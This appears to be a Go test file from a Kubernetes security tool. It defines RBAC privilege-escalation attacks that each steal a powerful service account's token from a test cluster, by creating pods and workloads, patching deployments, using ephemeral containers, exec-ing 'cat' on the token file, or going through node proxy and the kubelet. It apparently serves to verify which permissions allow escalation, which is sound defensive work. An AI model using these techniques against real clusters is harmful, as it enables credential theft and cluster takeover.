package apiserver

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/remotecommand"

	"github.com/retrial-io/retrial/test/apiserver/controlplane"
)

// podEscalations run something in a pod, or reach into one that runs. There is no scheduler:
// pods name their node themselves.
var podEscalations = []escalation{
	{edge: "pod-create", grants: func(namespace, _ string) []grant {
		return []grant{{namespace: namespace, verb: "create", resource: "pods"}}
	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: a.node1(superrobot)}
		if _, err := a.client.CoreV1().Pods(a.namespace).Create(ctx, pod, metav1.CreateOptions{}); err != nil {
			return nil, err
		}
		return a.inside(a.name), nil
	}},

	workload("deployment", "apps", "deployments", func(ctx context.Context, a *attacker, m metav1.ObjectMeta,
		pod corev1.PodTemplateSpec) error {
		_, err := a.client.AppsV1().Deployments(a.namespace).Create(ctx, &appsv1.Deployment{ObjectMeta: m,
			Spec: appsv1.DeploymentSpec{Selector: selector(pod), Template: pod}}, metav1.CreateOptions{})
		return err
	}),
	workload("replicaset", "apps", "replicasets", func(ctx context.Context, a *attacker, m metav1.ObjectMeta,
		pod corev1.PodTemplateSpec) error {
		_, err := a.client.AppsV1().ReplicaSets(a.namespace).Create(ctx, &appsv1.ReplicaSet{ObjectMeta: m,
			Spec: appsv1.ReplicaSetSpec{Selector: selector(pod), Template: pod}}, metav1.CreateOptions{})
		return err
	}),
	workload("daemonset", "apps", "daemonsets", func(ctx context.Context, a *attacker, m metav1.ObjectMeta,
		pod corev1.PodTemplateSpec) error {
		_, err := a.client.AppsV1().DaemonSets(a.namespace).Create(ctx, &appsv1.DaemonSet{ObjectMeta: m,
			Spec: appsv1.DaemonSetSpec{Selector: selector(pod), Template: pod}}, metav1.CreateOptions{})
		return err
	}),
	workload("statefulset", "apps", "statefulsets", func(ctx context.Context, a *attacker, m metav1.ObjectMeta,
		pod corev1.PodTemplateSpec) error {
		_, err := a.client.AppsV1().StatefulSets(a.namespace).Create(ctx, &appsv1.StatefulSet{ObjectMeta: m,
			Spec: appsv1.StatefulSetSpec{Selector: selector(pod), Template: pod}}, metav1.CreateOptions{})
		return err
	}),
	workload("controller", "", "replicationcontrollers", func(ctx context.Context, a *attacker, m metav1.ObjectMeta,
		pod corev1.PodTemplateSpec) error {
		_, err := a.client.CoreV1().ReplicationControllers(a.namespace).Create(ctx, &corev1.ReplicationController{ObjectMeta: m,
			Spec: corev1.ReplicationControllerSpec{Selector: pod.Labels, Template: &pod}}, metav1.CreateOptions{})
		return err
	}),
	workload("job", "batch", "jobs", func(ctx context.Context, a *attacker, m metav1.ObjectMeta, pod corev1.PodTemplateSpec) error {
		pod.Spec.RestartPolicy = corev1.RestartPolicyNever
		_, err := a.client.BatchV1().Jobs(a.namespace).Create(ctx, &batchv1.Job{ObjectMeta: m, Spec: batchv1.JobSpec{Template: pod}},
			metav1.CreateOptions{})
		return err
	}),
	workload("cronjob", "batch", "cronjobs", func(ctx context.Context, a *attacker, m metav1.ObjectMeta, pod corev1.PodTemplateSpec) error {
		pod.Spec.RestartPolicy = corev1.RestartPolicyNever
		made, err := a.client.BatchV1().CronJobs(a.namespace).Create(ctx, &batchv1.CronJob{ObjectMeta: m,
			Spec: batchv1.CronJobSpec{Schedule: "* * * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: pod}}}},
			metav1.CreateOptions{})
		if err != nil {
			return err
		}
		// What the clock would do within the minute: the last run is long ago.
		made.Status.LastScheduleTime = &metav1.Time{Time: made.CreationTimestamp.Add(-5 * time.Minute)}
		_, err = a.admin.BatchV1().CronJobs(a.namespace).UpdateStatus(ctx, made, metav1.UpdateOptions{})
		return err
	}),
	{edge: "workload-write", how: "patch", grants: func(namespace, name string) []grant {
		return []grant{{namespace: namespace, verb: "patch", group: "apps", resource: "deployments", name: name}}
	}, prepare: func(t *testing.T, s *scene, namespace, name string) {
		a := &attacker{scene: s, t: t, namespace: namespace, name: name}
		if _, err := s.admin.CoreV1().ServiceAccounts(namespace).Create(t.Context(),
			&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
		pod := a.template(name)
		if _, err := s.admin.AppsV1().Deployments(namespace).Create(t.Context(),
			&appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: name},
				Spec: appsv1.DeploymentSpec{Selector: selector(pod), Template: pod}}, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		_, err := a.client.AppsV1().Deployments(a.namespace).Patch(ctx, a.name, types.StrategicMergePatchType,
			[]byte(`{"spec":{"template":{"spec":{"serviceAccountName":"`+superrobot+`"}}}}`), metav1.PatchOptions{})
		if err != nil {
			return nil, err
		}
		return a.insideOf(a.name), nil
	}},

	{edge: "workload-write", how: "apply", spare: []int{0}, grants: func(namespace, name string) []grant {
		return []grant{{namespace: namespace, verb: "create", group: "apps", resource: "deployments", name: name},
			{namespace: namespace, verb: "patch", group: "apps", resource: "deployments", name: name}}
	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		pod := a.template(superrobot)
		d := &appsv1.Deployment{TypeMeta: metav1.TypeMeta{APIVersion: "apps/v1", Kind: "Deployment"},
			ObjectMeta: metav1.ObjectMeta{Name: a.name},
			Spec:       appsv1.DeploymentSpec{Selector: selector(pod), Template: pod}}
		_, err := a.client.AppsV1().Deployments(a.namespace).Patch(ctx, a.name, types.ApplyPatchType, mustJSON(a.t, d),
			metav1.PatchOptions{FieldManager: "a"})
		if err != nil {
			return nil, err
		}
		return a.insideOf(a.name), nil
	}},
	// Of a pod that is there the image may be changed, and the node starts it anew.
	{edge: "workload-write", how: "pod", grants: func(namespace, name string) []grant {
		return []grant{{namespace: namespace, verb: "patch", resource: "pods", name: name}}
	}, prepare: makePod, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		_, err := a.client.CoreV1().Pods(a.namespace).Patch(ctx, a.name, types.StrategicMergePatchType,
			[]byte(`{"spec":{"containers":[{"name":"c","image":"mine"}]}}`), metav1.PatchOptions{})
		if err != nil {
			return nil, err
		}
		return a.inside(a.name), nil
	}},

	{edge: "pod-exec", how: "spdy", grants: func(namespace, name string) []grant {
		return []grant{{namespace: namespace, verb: "create", resource: "pods/exec", name: name}}
	}, prepare: makePod, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		r := a.client.CoreV1().RESTClient().Post().Namespace(a.namespace).Resource("pods").Name(a.name).SubResource("exec").
			Param("command", "cat").Param("command", controlplane.TokenFile).Param("stdout", "true").Param("container", "c")
		stream, err := remotecommand.NewSPDYExecutor(a.config, http.MethodPost, r.URL())
		if err != nil {
			return nil, err
		}
		return a.streamed(ctx, stream)
	}},
	// kubectl's way: a GET, and the apiserver asks for create beside it.
	{edge: "pod-exec", how: "websocket", spare: []int{1}, other: true, grants: func(namespace, name string) []grant {
		return []grant{{namespace: namespace, verb: "create", resource: "pods/exec", name: name}, {namespace: namespace, verb: "get",
			resource: "pods/exec", name: name}}
	}, prepare: makePod, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		r := a.client.CoreV1().RESTClient().Get().Namespace(a.namespace).Resource("pods").Name(a.name).SubResource("exec").
			Param("command", "cat").Param("command", controlplane.TokenFile).Param("stdout", "true").Param("container", "c")
		stream, err := remotecommand.NewWebSocketExecutor(a.config, http.MethodGet, r.URL().String())
		if err != nil {
			return nil, err
		}
		return a.streamed(ctx, stream)
	}},

	// Another container in the pod, with the token's volume. The first patch, of nothing, is
	// answered with the volume's name.
	{edge: "pod-exec", how: "ephemeral", grants: func(namespace, name string) []grant {
		return []grant{{namespace: namespace, verb: "patch", resource: "pods/ephemeralcontainers", name: name}}
	}, prepare: makePod, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		pod, err := a.client.CoreV1().Pods(a.namespace).Patch(ctx, a.name, types.StrategicMergePatchType, []byte(`{}`),
			metav1.PatchOptions{}, "ephemeralcontainers")
		if err != nil {
			return nil, err
		}
		mine := corev1.EphemeralContainer{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "mine", Image: "mine",
			VolumeMounts: pod.Spec.Containers[0].VolumeMounts}}
		if len(mine.VolumeMounts) == 0 {
			return nil, errors.New("the pod mounts no token")
		}
		_, err = a.client.CoreV1().Pods(a.namespace).Patch(ctx, a.name, types.StrategicMergePatchType,
			mustJSON(a.t, map[string]any{"spec": map[string]any{"ephemeralContainers": []any{mine}}}), metav1.PatchOptions{},
			"ephemeralcontainers")
		if err != nil {
			return nil, err
		}
		return a.inside(a.name), nil
	}},

	{edge: "node-proxy", how: "run", grants: func(string, string) []grant {
		return []grant{{verb: "create", resource: "nodes/proxy", name: "node-1"}}
	}, prepare: makePod, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		token, err := a.client.CoreV1().RESTClient().Post().Resource("nodes").Name(a.node.Name).SubResource("proxy").
			Suffix("run", a.namespace, a.name, "c").Param("cmd", "cat "+controlplane.TokenFile).DoRaw(ctx)
		return a.Bearer(string(token)), err
	}},
	// Reading is enough for who reaches the kubelet's port: it serves exec to a GET that becomes
	// a web socket. By way of the apiserver it is not: that drops the command from such a GET.
	{edge: "node-proxy", how: "kubelet", grants: func(string, string) []grant {
		return []grant{{verb: "get", resource: "nodes/proxy", name: "node-1"}}
	}, prepare: makePod, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		cfg := &rest.Config{Host: a.node.URL, TLSClientConfig: rest.TLSClientConfig{CertData: a.config.CertData, KeyData: a.config.KeyData,
			Insecure: true}}
		stream, err := remotecommand.NewWebSocketExecutorForProtocols(cfg, http.MethodGet,
			fmt.Sprintf("%s/exec/%s/%s/c?command=cat&command=%s&output=1", a.node.URL, a.namespace, a.name,
				url.QueryEscape(controlplane.TokenFile)), "v4.channel.k8s.io")
		if err != nil {
			return nil, err
		}
		return a.streamed(ctx, stream)
	}},
}

// workload is the escalation by a kind of object that a controller makes pods of.
func workload(how, group, resource string, create func(context.Context, *attacker, metav1.ObjectMeta,
	corev1.PodTemplateSpec) error) escalation {
	return escalation{edge: "workload-write", how: how, grants: func(namespace, _ string) []grant {
		return []grant{{namespace: namespace, verb: "create", group: group, resource: resource}}
	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		if err := create(ctx, a, metav1.ObjectMeta{Name: a.name}, a.template(superrobot)); err != nil {
			return nil, err
		}
		return a.insideOf(a.name), nil
	}}
}

// node1 returns a pod that runs as a service account.
func (a *attacker) node1(account string) corev1.PodSpec {
	return corev1.PodSpec{NodeName: a.node.Name, ServiceAccountName: account, Containers: []corev1.Container{{Name: "c", Image: "i"}}}
}

func (a *attacker) template(account string) corev1.PodTemplateSpec {
	return corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": a.name}}, Spec: a.node1(account)}
}

func selector(pod corev1.PodTemplateSpec) *metav1.LabelSelector {
	return &metav1.LabelSelector{MatchLabels: pod.Labels}
}

// makePod is a pod of somebody else's, with the powerful service account.
func makePod(t *testing.T, s *scene, namespace, name string) {
	a := &attacker{scene: s}
	if _, err := s.admin.CoreV1().Pods(namespace).Create(t.Context(), &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: a.node1(superrobot)}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
}

// inside is whoever the attacker's program in a pod is: the node hands it the pod's token.
func (a *attacker) inside(pod string) *rest.Config {
	var token string
	controlplane.Poll(a.t, "the node to run the pod", func(ctx context.Context) (bool, string) {
		var err error
		token, err = a.node.Token(ctx, a.namespace, pod)
		return err == nil, fmt.Sprint(err)
	})
	return a.Bearer(token)
}

// insideOf is inside of the pod that a controller makes of the attacker's template.
func (a *attacker) insideOf(app string) *rest.Config {
	var pod string
	controlplane.Poll(a.t, "a controller to make the pod", func(ctx context.Context) (bool, string) {
		pods, err := a.admin.CoreV1().Pods(a.namespace).List(ctx, metav1.ListOptions{LabelSelector: "app=" + app})
		if err != nil {
			return false, err.Error()
		}
		for _, p := range pods.Items {
			if p.Spec.ServiceAccountName == superrobot {
				pod = p.Name
				return true, ""
			}
		}
		return false, "none yet"
	})
	return a.inside(pod)
}

// streamed is whoever the token is that a stream hands out.
func (a *attacker) streamed(ctx context.Context, stream remotecommand.Executor) (*rest.Config, error) {
	var out bytes.Buffer
	err := stream.StreamWithContext(ctx, remotecommand.StreamOptions{Stdout: &out})
	return a.Bearer(strings.TrimSpace(out.String())), err
}
